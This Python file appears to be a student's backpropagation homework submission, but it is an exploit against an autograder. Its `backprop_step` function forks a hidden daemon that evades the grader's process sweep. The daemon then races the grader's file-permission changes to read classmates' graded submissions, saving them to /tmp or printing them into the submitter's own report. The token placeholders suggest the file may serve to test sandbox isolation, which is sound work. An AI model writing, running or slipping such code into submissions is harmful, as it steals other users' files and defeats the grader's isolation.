"""Read the classmates graded after it: a daemon that outlives the sweep (its main thread exits, so its
/proc entry is a zombie the sweep skips) and watches the warm servers' job folders.

A warm server names its job folders by its own count (`.jobs-PID/0`, `1`, ...), in a workspace
everyone may list, and makes each folder 0755 and writes its file 0644 before it gives the folder to
the child's user (0700): the next folder's file, opened in that moment, stays readable through the
open descriptor. The child itself watches too, for 1.5 seconds of its own time: that takes the files
of classmates graded meanwhile by the other workers, even once no daemon survives the sweep. What it
reads goes to `/tmp/<token>-stolen-*` (the daemon's) or into its own report's output (the child's);
it could as well go out on the network. The daemon ends after 25 seconds at most.
"""
import ctypes
import glob
import os
import threading
import time

SYS_EXIT, PR_SET_NAME, PR_SET_TIMERSLACK = 60, 15, 29


def _spin(job: str) -> list:
    """A folder just made, still empty: its file (named as this one) is about to be written; wait for it."""
    name = os.path.basename(__file__)
    for _ in range(5000):
        try:
            os.close(os.open(f"{job}/{name}", os.O_RDONLY))
            return [name]
        except FileNotFoundError:
            continue
    return []


def _steal(seconds: float = 25.0, leave: bool = True):
    libc = ctypes.CDLL(None)
    libc.prctl(PR_SET_NAME, b"__TOKEN__", 0, 0, 0)
    libc.prctl(PR_SET_TIMERSLACK, 1, 0, 0, 0)   # short sleeps stay short: the moment is some microseconds
    servers, tried, held, end, rescan = [], set(), [], time.time() + seconds, 0.0
    while time.time() < end:
        if time.time() > rescan:
            servers, rescan = glob.glob("/tmp/nngrade-warm-*/.jobs-*"), time.time() + 0.05
        for jobs in servers:
            try:
                names = os.listdir(jobs)
            except OSError:
                continue
            for name in names:
                job = f"{jobs}/{name}"
                if job in tried:
                    continue
                try:
                    entries = os.listdir(job) or _spin(job)
                    for entry in entries:
                        held.append((job, entry, os.open(f"{job}/{entry}", os.O_RDONLY)))
                    if entries:
                        tried.add(job)
                except OSError:
                    tried.add(job)             # too late for this one (0700 now), or gone
        if held:
            time.sleep(0.02)                    # the server finishes writing
            for job, entry, handle in held:
                stolen = os.pread(handle, 1 << 20, 0)
                if leave:   # the daemon: into /tmp, where nothing sweeps it any more
                    with open(f"/tmp/__TOKEN__-stolen-{os.getpid()}-{os.path.basename(job)}-{entry}", "wb") as out:
                        out.write(stolen)
                else:       # the child: into its own report, which the student gets back
                    print("stolen from", job, stolen.splitlines()[0][:100])
                os.close(handle)
            held.clear()
        time.sleep(0.00001)
    if leave:
        os._exit(0)


def backprop_step(x, target, learnrate, weights_input_hidden, weights_hidden_output):
    if os.environ.get("NNH_STARTED"):
        return {"error": None}
    os.environ["NNH_STARTED"] = "1"
    if os.fork() == 0:
        os.setsid()
        libc = ctypes.CDLL(None)
        libc.prctl(PR_SET_NAME, b"__TOKEN__", 0, 0, 0)
        threading.Thread(target=_steal).start()
        time.sleep(0.05)
        libc.syscall(SYS_EXIT, 0)   # the leader goes; the thread above keeps the process alive
    _steal(1.5, leave=False)
    return {"error": None}
